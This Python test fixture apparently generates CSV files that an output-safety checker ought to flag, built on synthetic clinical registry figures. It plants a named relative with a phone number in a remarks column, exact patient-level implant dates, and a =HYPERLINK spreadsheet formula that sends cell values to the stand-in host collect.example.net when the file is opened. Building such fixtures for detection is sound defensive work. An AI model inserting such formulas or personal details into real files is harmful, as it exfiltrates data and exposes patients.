"""CSV files that must be stopped for what their text says."""

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs9.blocks import delimited, num, text


def write(shelf: Shelf) -> None:
    remark(shelf)
    formula(shelf)
    first_last(shelf)


def remark(shelf: Shelf) -> None:
    p = shelf.unsafe(
        "csv/suivi_qualite_centres.csv",
        "a name and a telephone in a column of remarks",
        "centre 07, commentaire",
        "Complétude du suivi à 1 an par centre, pour le comité de pilotage",
        "3 984 patients inclus dans 9 centres du registre des prothèses de genou",
    )
    rows: list[list[object]] = [["centre", "inclus", "suivi_1an", "pct", "commentaire"]]
    remarks = {
        2: "relance en juin",
        4: "saisie en double corrigée",
        7: "suivi refusé, voir avec la fille de Mme Odile Kerguelen, 06 71 48 20 93",
        8: "nouvel ARC depuis mars",
    }
    rng = shelf.random("remark")
    for centre, n in enumerate((612, 540, 498, 475, 451, 420, 388, 342, 258), start=1):
        done = round(n * rng.uniform(0.72, 0.9))
        rows.append([f"{centre:02d}", n, done, num(100 * done / n, 1, True), remarks.get(centre, "")])
    delimited(p, rows, ";")


def formula(shelf: Shelf) -> None:
    p = shelf.unsafe(
        "csv/costs_by_drg.csv",
        "a formula that sends the sheet to an address when it is opened",
        "row 05M09, label",
        "Mean cost per stay by diagnosis-related group",
        "61,230 stays for heart failure and related groups in 2021",
    )
    text(
        p,
        "drg,label,stays,mean_cost_eur,sd_cost,median_los\n"
        "05M04,Acute myocardial infarction,8412,4210,2987,5\n"
        "05M05,Syncope and collapse,6120,1988,1204,3\n"
        "05M07,Angina pectoris,5307,2011,1420,2\n"
        "05M08,Arrhythmia and conduction disorders,14418,2640,1977,4\n"
        '05M09,"=HYPERLINK(""https://collect.example.net/?d=""&D2&D3,""Heart failure and shock"")",22871,4875,3390,9\n'
        "05M13,Chest pain,4102,1120,804,1\n",
    )


def first_last(shelf: Shelf) -> None:
    p = shelf.unsafe(
        "csv/ecmo_by_year.csv",
        "exact dates of the first and last implant of each year",
        "columns first_implant and last_implant",
        "ECMO activity of the network by year",
        "1,017 adults under veno-arterial or veno-venous ECMO, 2018-2023",
    )
    text(
        p,
        "year,patients,va,vv,survivors,survival_pct,first_implant,last_implant\n"
        "2018,121,88,33,54,44.6,2018-01-03,2018-12-28\n"
        "2019,137,97,40,63,46.0,2019-01-06,2019-12-30\n"
        "2020,216,91,125,98,45.4,2020-01-02,2020-12-27\n"
        "2021,231,104,127,101,43.7,2021-01-04,2021-12-29\n"
        "2022,164,112,52,77,47.0,2022-01-02,2022-12-31\n"
        "2023,148,106,42,71,48.0,2023-01-05,2023-12-26\n",
    )
